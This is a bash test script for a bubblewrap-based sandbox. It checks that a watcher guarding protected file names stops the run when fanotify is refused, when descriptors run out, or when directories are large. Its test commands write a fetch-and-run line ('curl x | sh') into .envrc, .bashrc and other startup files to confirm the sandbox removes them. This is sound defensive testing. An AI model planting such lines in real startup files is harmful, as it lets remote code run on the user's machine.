#!/bin/bash
# Escape class H1 (linux-bwrap): the watcher that keeps protected and
# denied names covered when the host replaces them must run, or the run
# must not. Before, a watcher that could not run (fanotify refused, no
# mount capability) and a tree larger than the watcher's bounds only drew
# a warning and the command ran with names the host's next rename would
# uncover; a directory the watcher could not open (out of descriptors) was
# skipped in silence. And an ordinary large project stopped the run: more
# than 4,096 directories made at the watched depth ended it.
#  1-3: fanotify refused (a user namespace whose fanotify group limit is
#       0, the limit counts in every namespace above): refused with one
#       line naming the setting; filesystem.enableWeakerNameProtection runs.
#  4:   5,000 directories made at the top of a write root: the run goes on.
#  5-6: out of descriptors (a hard open-file limit of 1,024): 1,000
#       directories at the top of the write root at the start: refused; a directory the
#       command makes past the limit stops the run before a .envrc it
#       writes there can stay.
#  7:   a directory of 24,000 entries moved into the write root is read
#       whole for protected names.
. "$(dirname "$0")/lib.sh"
need_bwrap
P="$WORK/proj"
cd "$P" || exit 1
S=$(fsjson s "$S0_FS")
W=$(fsjson weak '{"denyRead":["~/.ssh","~/.aws"],"allowWrite":["."],"denyWrite":[],"enableWeakerNameProtection":true}')

# 1-3: fanotify refused
if unshare -Ur sh -c 'echo 0 > /proc/sys/user/max_fanotify_groups' 2>/dev/null; then
	nofan() { unshare -Ur sh -c 'echo 0 > /proc/sys/user/max_fanotify_groups && exec "$@"' sh "$@"; }
	rm -f "$P/ran"
	nofan timeout -k 5 30 "$SRT" --backend="$BACKEND" -s "$S" -c "echo x > $P/ran" >"$WORK/out" 2>&1
	rc=$?
	attempt H1 "fanotify refused: the command did not run (exit $rc)" \
		sh -c "[ $rc -ne 0 ] && [ ! -e '$P/ran' ]"
	attempt H1 "fanotify refused: one line names the layer and the setting ($(head -c 300 "$WORK/out"))" \
		sh -c "[ \$(grep -c . '$WORK/out') -eq 1 ] && grep -q 'fanotify.*enableWeakerNameProtection' '$WORK/out'"
	nofan timeout -k 5 30 "$SRT" --backend="$BACKEND" -s "$W" -c "echo x > $P/ran" >"$WORK/out" 2>&1
	attempt H1 "fanotify refused, enableWeakerNameProtection: runs, and says so ($(head -c 300 "$WORK/out"))" \
		sh -c "[ -e '$P/ran' ] && grep -q 'warning: fanotify' '$WORK/out'"
else
	skip_rest 3 "H1 no user namespace whose fanotify limit can be set (unshare -Ur)"
fi
rm -f "$P/ran"

# 4: a large build at the top of the write root
srt__run -s "$S" -c 'mkdir $(seq -f b%g 5000) && echo done' >"$WORK/out" 2>&1
rc=$?
attempt H1 "5,000 directories made in a write root: the run went on (exit $rc, $(grep -v '^done' "$WORK/out" | head -c 200))" \
	sh -c "[ $rc -eq 0 ] && grep -qx done '$WORK/out' && [ -d '$P/b5000' ]"
rm -rf "$P"/b*

# 5-6: out of descriptors
(cd "$P" && mkdir $(seq -f t%g 1000))
(ulimit -n 1024 && exec timeout -k 5 30 "$SRT" --backend="$BACKEND" -s "$S" -c "echo x > $P/ran") \
	>"$WORK/out" 2>&1
rc=$?
attempt H1 "1,000 watched directories and 1,024 descriptors: refused, nothing ran (exit $rc, $(head -c 300 "$WORK/out"))" \
	sh -c "[ $rc -ne 0 ] && [ ! -e '$P/ran' ] && grep -q 'enableWeakerNameProtection' '$WORK/out'"
rm -rf "$P"/t* "$P/ran"
(ulimit -n 1024 && exec timeout -k 5 30 "$SRT" --backend="$BACKEND" -s "$S" \
	-c 'mkdir $(seq -f d%g 1000); sleep 2; echo "curl x | sh" > d1000/.envrc; echo "curl x | sh" > d999/.envrc') \
	>"$WORK/out" 2>&1
rc=$?
attempt H1 "out of descriptors during the run: stopped, no .envrc left (exit $rc, $(grep -v '^deny' "$WORK/out" | head -c 300))" \
	sh -c "[ $rc -ne 0 ] && ! grep -qs curl '$P/d1000/.envrc' '$P/d999/.envrc'"
rm -rf "$P"/d*

# 7: a directory filled where nothing is watched (two levels down), with
# 24,000 files and ten protected names, then moved to the top of the
# write root: the watcher reads it whole (it read the first 20,000 entries
# only, so names past them in the directory's order stayed: with ten
# names in 24,010 entries at least one lay past them 9 times in 10)
names=".envrc .mcp.json .npmrc .yarnrc.yml .bash_logout .zlogin .zlogout .bashrc .profile .zshrc"
srt__run -s "$S" -c "mkdir -p a/b/x && cd a/b/x && $PY -c '
import sys
for i in range(24000): open(\"f%d\" % i, \"w\").close()
for n in sys.argv[1:]: open(n, \"w\").write(\"curl x | sh\\n\")
' $names && cd '$P' && mv a/b/x x && sleep 1" >"$WORK/out" 2>&1
left=$(cd "$P/x" 2>/dev/null && grep -ls curl $names)
attempt H1 "ten protected names in a 24,000-entry directory moved into the write root: none left (${left:-none}, $(ls "$P/x" 2>/dev/null | wc -l) entries)" \
	sh -c "[ -d '$P/x' ] && [ -z '$left' ]"
echo "1..$_tap_n"
